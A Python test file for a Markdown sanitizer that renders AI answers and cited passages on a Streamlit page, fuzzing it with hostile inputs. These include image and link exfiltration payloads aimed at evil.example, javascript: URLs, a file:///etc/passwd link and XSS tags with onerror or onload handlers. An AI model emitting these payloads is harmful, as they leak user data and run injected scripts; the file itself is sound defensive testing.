"""Nothing of a document or an answer is run, fetched or linked, and all of it reads as written.

What the page does with Markdown is repeated here after Streamlit 1.67: CommonMark with tables,
raw HTML, autolinks as remark-gfm makes them, formulas, directives, icons, emoji and arrows.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.rules_inline import StateInline
from markdown_it.token import Token

from pages._markdown import WORD_JOINER, passage, plain, safe, shaded
from tests.exfiltration import WAYS, groups, streamed

# mdast-util-gfm-autolink-literal looks for these in text from which the escapes are gone.
AUTOLINK = re.compile(
    r"(https?://|www(?=\.))[-.\w]+|[-.\w+]+@[-\w]+(\.[-\w]+)+", re.IGNORECASE | re.ASCII
)
# Streamlit's icons, logo and emoji, and its arrows, also in such text.
ICON = re.compile(r":[\w+-][\w+/-]*:", re.ASCII)
ARROW = re.compile(r"(^|\s)(<->|->|<-|--|>=|<=|~=)(\s|$)")
# Streamlit draws fences in these languages; a diagram can name pictures and links.
DRAWN = re.compile(r"(mermaid|math)\b", re.IGNORECASE)
ANCHOR = re.compile(r"#answer-\d+-source-\d+")


def _formula(state: StateInline, silent: bool) -> bool:
    found = re.match(r"\$|:(?=[A-Za-z])|\[\^", state.src[state.pos :])
    if not found:
        return False
    if not silent:
        state.push("formula", "", 0).content = state.src[state.pos :]
    state.pos += len(found.group())
    return True


def streamlit() -> MarkdownIt:
    """A parser that gives a `formula` for a formula, a directive and a footnote."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.inline.ruler.after("backticks", "formula", _formula)
    return parser


def flat(tokens: Iterable[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from flat(token.children or [])


def dangers(markdown: str) -> list[str]:
    """What the page would run, fetch, link to or draw."""
    found = []
    for token in flat(streamlit().parse(markdown)):
        match token.type:
            case "image" | "html_inline" | "html_block" | "formula":
                found.append(f"{token.type} {token.content or token.attrs}")
            case "link_open" if not ANCHOR.fullmatch(str(token.attrs["href"])):
                found.append(f"link {token.attrs['href']}")
            case "fence" if DRAWN.match(token.info.strip()):
                found.append(f"drawing {token.info}")
            case "text":
                for mark in (AUTOLINK, ICON, ARROW):
                    found += [f"mark {hit.group()}" for hit in mark.finditer(token.content)]
    return found


def visible(markdown: str) -> str:
    """The words a reader sees, without the breaks between them."""
    shown = [
        token.content
        for token in flat(streamlit().parse(markdown))
        if token.type in ("text", "code_inline", "fence", "code_block")
    ]
    return "".join("".join(shown).replace(WORD_JOINER, "").split())


def link(number: int) -> str:
    return f"[\\[{number}\\]](#answer-1-source-{number})"


HOSTILE = [
    # images
    "![x](http://evil.example/?q=1)",
    "![x](<http://evil.example/a b>)",
    '![x](http://evil.example "title")',
    "![![x](http://evil.example/1)](http://evil.example/2)",
    "[![x](http://evil.example/1)](http://evil.example/2)",
    "![x][1]\n\n[1]: http://evil.example",
    "![x]\n\n[x]: http://evil.example",
    "![x][]\n\n[x]: <http://evil.example> 'title'",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](//evil.example/a.png)",
    "![x](/media/../../a.png)",
    "![](http://evil.example)",
    "!\\[x](http://evil.example) ![y](http://evil.example)",
    "\\![x](http://evil.example)",
    "![x\n](http://evil.example)",
    "**![x](http://evil.example)**",
    "> ![x](http://evil.example)\n> - ![y](http://evil.example)",
    "# ![x](http://evil.example)",
    "| a |\n| --- |\n| ![x](http://evil.example) |",
    "| a | b |\n| --- | --- |\n| `c \\| ![x](http://evil.example)` |",
    "| a | b |\n| --- | --- |\n| **`c \\\\\\| ![x](http://evil.example)`** |",
    "| `a \\| <img src=http://evil.example>` |\n| --- |\n| 1 |",
    "| a |\n| --- |\n| ``b \\| ![x](http://evil.example)`` `c \\| www.evil.example` |",
    "![重排](http://evil.example/图.png)",
    "![x](http&#58;//evil.example)",
    "&#33;[x](http://evil.example)",
    "&#x21;&#x5b;x&#x5d;&#x28;http://evil.example&#x29;",
    "\u200b!\u200b[x](http://evil.example)",
    "！[x](http://evil.example)",
    # links
    "[x](http://evil.example)",
    '[x](http://evil.example "click me")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](data:text/html,<script>)",
    "[x](#answer-1-source-1) [1](#top)",
    "[1](http://evil.example)",
    "[[1]](http://evil.example)",
    "[http://good.example](http://evil.example)",
    "[x][y]\n\n[y]: http://evil.example",
    "[1]\n\n[1]: http://evil.example",
    "[重排\\]](http://evil.example)",
    "[x](http://user:password@evil.example/)",
    "[x](http://[::1]/) [y](http://[bad/)",
    # autolinks
    "<http://evil.example>",
    "<javascript:alert(1)>",
    "<a@evil.example>",
    "http://evil.example",
    "HTTPS://evil.example/?q=重排",
    "see www.evil.example now",
    "WWW.evil.example",
    "write to a.b+c@evil.example",
    "a@-evil.example a@_evil.example",
    "mailto:a@evil.example xmpp:a@evil.example/b",
    "http:\u200b//evil.example ht\u2060tp://evil.example www\u2060.evil.example",
    "http\\://evil.example www\\.evil.example a\\@evil.example",
    "http&colon;//evil.example www&period;evil.example a&commat;evil.example",
    "请看http://evil.example。或www.evil.example，写信a@evil.example",
    "*http*://evil.example www.*evil*.example **a@evil.example**",
    "http:[](x)//evil.example www[.](x)evil.example a[@](x)evil.example :smi[](x)le:",
    "[http:](x)[//evil.example](y) www[.evil.example](http://good.example)",
    "| a | b |\n| --- | --- |\n| http:`//evil.example/\\|` | c |",
    # HTML
    "<img src=http://evil.example onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><image href=http://evil.example/></svg>",
    "<iframe src=http://evil.example></iframe>",
    "<style>@import 'http://evil.example'</style>",
    "a <!-- ![x](http://evil.example) --> b",
    "<!-- unclosed ![x](http://evil.example)",
    "<?php x ?> <![CDATA[x]]> <!DOCTYPE x>",
    "<div>\n\n![x](http://evil.example)\n\n</div>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "text\n<details open ontoggle=alert(1)>",
    # marks that Streamlit adds
    ":red[x] :rainbow[y] :blue-background[z] :green-badge[:material/home:]",
    ":color[x]{foreground=red} :help[x] :small[y] :shimmer[z]",
    ":material/home: :material_home: :streamlit: :+1: :-1: :smile:",
    "重排:smile:序 a:b:c 12:30:45 :: :::x",
    "$\\href{javascript:alert(1)}{x}$ and $$\\includegraphics{http://evil.example}$$",
    "costs $5 and $6; 花费$5到$6",
    "a -> b <- c <-> d -- e >= f <= g ~= h",
    "> =\n\n- ->\n- --",
    "```mermaid\ngraph LR\n  A@{ img: 'http://evil.example/a.png' }\n```",
    '~~~ MerMaid {x}\ngraph LR\n  click A href "http://evil.example"\n~~~',
    "```mer&#109;aid\ngraph LR\n```",
    "```mermaid-v2\ngraph LR\n```",
    "1. a\n   ```mermaid\n   graph LR\n   ```",
    "```math\n\\href{http://evil.example}{x}\n```",
    # footnotes and definitions
    "x[^1]\n\n[^1]: ![y](http://evil.example)",
    "[x]: http://evil.example\n[x]",
    # what is left open
    "![x](http://evil.example",
    "[x](<http://evil.example",
    "`![x](http://evil.example)",
    "```\n![x](http://evil.example)",
    "``` a`b\n![x](http://evil.example)\n```",
    "`a` ``![x](http://evil.example)`",
    "````\n```\n![x](http://evil.example)\n````",
    "    ![x](http://evil.example)\n![y](http://evil.example)",
    "    ```\n    ![x](http://evil.example)\n\n![y](http://evil.example)",
    "- ```\n![x](http://evil.example)",
    "**[x](http://evil.example",
    "| a | b |\n|---|---|\n| `x | ![y](http://evil.example)` |",
    "a\\\n![x](http://evil.example)",
    "a  \n    ![x](http://evil.example)",
    "a  \n![x](http://evil.example)  \nb\n===",
    "# a #\nb\n===\n![x](http://evil.example)\n---",
    "\\",
    "\x00![x](http://evil.example)\x1b[31m\u202e",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_answer_can_lead_anywhere(text: str) -> None:
    assert dangers(safe(text)) == []
    assert dangers(safe(text, link)) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_no_beginning_of_an_answer_can_lead_anywhere(text: str) -> None:
    for length in range(len(text)):
        assert dangers(safe(text[:length], link)) == [], text[:length]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_name_and_no_passage_can_lead_anywhere(text: str) -> None:
    assert dangers(plain(text)) == []
    assert dangers(f"**{plain(text)}**") == []
    assert dangers(passage(text)) == []


def test_no_way_out_is_left_in_any_view_of_a_text_or_of_its_beginning() -> None:
    """As answers, names, headings and passages; tests/trust shows them to a browser."""
    assert_no_way_out(step=8)


def assert_no_way_out(step: int) -> None:
    """Of the beginnings of every way each `step`-th is tried, and the whole."""
    for way in WAYS:
        for length in range(len(way.text), 0, -step):
            assert dangers(safe(way.text[:length], link)) == [], way.text[:length]
        for shown in (plain(way.text), passage(way.text), passage(f"# {way.text}")):
            assert dangers(shown) == [], way.name


def test_ways_that_stand_together_leave_no_way_out_while_they_stream() -> None:
    for group in groups(16):
        text = ""
        for piece in streamed(group):
            text += piece
            assert dangers(safe(text, link)) == [], text


def test_the_check_itself_sees_every_danger() -> None:
    """Nearly all of the hostile texts are dangerous where nothing makes them safe."""
    missed = [text for text in HOSTILE if not dangers(text)]
    assert len(missed) < len(HOSTILE) / 4
    assert len(WAYS) >= 60
    assert len([way for way in WAYS if not dangers(way.text)]) <= 2


# fmt: off
HOSTILE_PIECES = st.sampled_from([
    "![", "](", ")", "[", "]", "](x)", "[1]", "http://e.example", "http:", "//e.example", "|---|",
    "www.e.example", "a@e.example", "`", "```", "~~~", "|", "<img/src=x>", "<!--", "&#33;", "--",
    "$", ":", ":red[", "\\", "*", "#", "1.", "- ", "> ", "===\n", "\n", "  \n", "\n\n", " ", "    ",
    "mermaid", "重排", "word", "\u200d",
])
# fmt: on


@settings(max_examples=300)
@given(st.lists(HOSTILE_PIECES, max_size=14).map("".join))
@example("|a|b|\n|---|---|\n|`c \\| ![x](http://e.example)`|")
def test_no_mixture_of_marks_can_lead_anywhere(text: str) -> None:
    assert dangers(safe(text, link)) == []
    assert dangers(passage(text)) == []


@settings(max_examples=200)
@given(st.text(max_size=60) | st.lists(HOSTILE_PIECES, max_size=10).map("".join))
def test_plain_reads_as_written(text: str) -> None:
    printable = "".join(c for c in text if c.isprintable())
    assert visible(plain(text)) == "".join(printable.replace(WORD_JOINER, "").split())


@settings(max_examples=100)
@given(st.lists(HOSTILE_PIECES, max_size=10).map("".join))
def test_plain_is_one_paragraph(text: str) -> None:
    tokens = streamlit().parse(plain(text))
    assert [token.type for token in tokens] in (
        [],
        ["paragraph_open", "inline", "paragraph_close"],
    )


# --- passages ---


ENGLISH = "# Ships\n\nA frigate is fast. It has three masts.\n\nSailors climb *up*."
CHINESE = "# 食物\n\n面包需要面粉、水和盐。烤一个小时。\n\n趁热吃。"


def highlighted(markdown: str) -> list[str]:
    return re.findall(r":yellow-background\[(.*?)(?<!\\)\]", markdown)


@pytest.mark.parametrize(
    ("text", "quote", "shown"),
    [
        (ENGLISH, "It has three masts.", r"It has three masts\."),
        (CHINESE, "烤一个小时。", "烤一个小时。"),
    ],
)
def test_the_quote_is_highlighted_in_its_paragraph(text: str, quote: str, shown: str) -> None:
    start = text.index(quote)
    heading, paragraph, last = passage(text, [(start, start + len(quote))]).split("\n\n")
    assert highlighted(paragraph) == [shown]
    assert highlighted(heading + last) == []
    assert heading in ("**Ships**", "**食物**")


def test_words_beside_a_highlight_keep_their_blanks() -> None:
    text = "One two three."
    assert passage(text, [(4, 7)]) == r"One :yellow-background[two] three\."
    assert passage("烤一个小时", [(1, 3)]) == "烤:yellow-background[一个]小时"


def test_a_quote_over_two_paragraphs_is_highlighted_in_both() -> None:
    text = "One two.\n\nThree four."
    assert highlighted(passage(text, [(4, 15)])) == [r"two\.", "Three"]


def test_overlapping_quotes_are_highlighted_once() -> None:
    text = "One two three four."
    shown = passage(text, [(0, 7), (4, 13)])
    assert "".join(highlighted(shown)).replace(" ", "") == "Onetwothree"
    assert visible(re.sub(r":yellow-background", "", shown)).count("two") == 1


def test_brackets_in_a_quote_do_not_end_its_highlight() -> None:
    text = "See [1] and ] here."
    assert highlighted(passage(text, [(0, len(text))])) == [r"See \[1\] and \] here\."]


@settings(max_examples=200)
@given(
    st.text(alphabet="ab 猫。.\n#[]*:$", max_size=60),
    st.lists(st.tuples(st.integers(0, 60), st.integers(0, 60)), max_size=3),
)
def test_a_passage_keeps_all_words_in_order(text: str, spans: list[tuple[int, int]]) -> None:
    marked = [(min(span), min(max(span), len(text))) for span in spans]
    shown = re.sub(r":yellow-background\[(.*?)(?<!\\)\]", r"\1", passage(text, marked))
    headings = re.sub(r"^#{1,6} +(?=.*$)|^#{1,6} *$", "", text, flags=re.MULTILINE)
    assert visible(shown).replace("#", "") == "".join(headings.split()).replace("#", "")


# --- answers ---


def test_citations_become_links_to_their_cards() -> None:
    shown = safe("Fast [1], slow [2]。重排更准[3]。", link)
    assert re.findall(r"#answer-1-source-(\d)", shown) == ["1", "2", "3"]
    assert visible(shown) == "Fast[1],slow[2]。重排更准[3]。"


def test_citations_in_tables_lists_and_headings_are_links_and_in_code_they_are_not() -> None:
    shown = safe("# A [1]\n\n- b [2]\n\n| c [3] |\n| --- |\n| d [4] |\n\n`e [5]`", link)
    assert re.findall(r"#answer-1-source-(\d)", shown) == ["1", "2", "3", "4"]


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("**重点** and *why*", {"strong_open", "em_open"}),
        ("- a\n- b\n  1. c", {"bullet_list_open", "ordered_list_open"}),
        ("> quoted\n> 引用", {"blockquote_open"}),
        ("| a | b |\n| --- | --- |\n| 一 | 二 |", {"table_open", "td_open"}),
        ("```python\nprint('$5')\n```\nand `code`", {"fence", "code_inline"}),
        ("## Why", {"strong_open"}),
        ("## **Why** so", {"strong_open"}),
    ],
)
def test_the_form_of_an_answer_is_kept(text: str, kinds: set[str]) -> None:
    tokens = {token.type for token in flat(streamlit().parse(safe(text)))}
    assert kinds <= tokens
    words = re.sub(r"python\n|[^\w']", "", text.replace("1.", ""))
    assert re.sub(r"[^\w']", "", visible(safe(text))) == words


def test_a_link_is_its_text_and_its_host_and_an_image_its_description() -> None:
    assert visible(safe("[docs](https://a.example/x?y)")) == "docs(a.example)"
    assert visible(safe("![a cat](https://a.example/x.png)")) == "[image:acat]"


def test_a_cell_keeps_its_code_with_a_bar() -> None:
    shown = safe("| a | b |\n| --- | --- |\n| `x \\| y` | z |")
    cells = [token for token in flat(streamlit().parse(shown)) if token.type == "td_open"]
    assert len(cells) == 2
    assert "x|y" in visible(shown)


def test_an_empty_heading_is_nothing() -> None:
    assert safe("a\n\n##").strip() == "a"


# --- shades and doubts ---


SHADE = "rgba(42,157,130,0.40)"


def test_words_are_shaded_and_set_in_bold_where_they_stand() -> None:
    text = "A cat sleeps.\n\n# The mat\nIt is warm."
    shown = shaded(text, [((2, 5), SHADE)], [(6, 12)])
    assert f':color[cat]{{background="{SHADE}"}}' in shown
    assert ':color[**sleeps**]{background="transparent"}' in shown
    assert visible(shown.replace(":color", "")).count("cat") == 1
    assert shown.splitlines()[0].startswith("A :color[cat]")


def test_shades_and_bold_meet_inside_chinese() -> None:
    shown = shaded("重排模型更准。", [((0, 4), SHADE)], [(2, 4)])
    first, second = f':color[重排]{{background="{SHADE}"}}', "**模型**"
    assert shown == f'{first}:color[{second}]{{background="{SHADE}"}}更准。'


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_gets_out_of_a_shade(text: str) -> None:
    spans = [(start, start + 1) for start in range(0, len(text), 2)]
    shown = shaded(text, [(span, SHADE) for span in spans], [(1, 3)])
    own = re.sub(r':color(?=\[)|\{background="[^"]*"\}', "", shown)
    assert not dangers(own)


def test_a_doubtful_sentence_carries_its_mark() -> None:
    text = "Cats fly [1]. **Dogs bark.** 猫会飞[2]。"
    ends = [13, text.index(" 猫"), len(text)]
    shown = safe(text, link, [ends[0], ends[2]])
    badge = ":orange-badge[not supported]"
    assert shown.count(badge) == 2
    assert shown.index(badge) < shown.index("Dogs") < shown.rindex(badge)
    assert link(1) in shown
    assert "\ufdd0" not in shown


def test_the_mark_does_not_make_an_image_a_link() -> None:
    text = "结尾 ![重排](http://evil.example)"
    assert visible(safe(text, link, [4])) == "结尾[image:重排]"


def test_the_mark_cannot_be_written_by_an_answer() -> None:
    assert "badge" not in safe("Cats fly.\ufdd0 `code\ufdd0`")
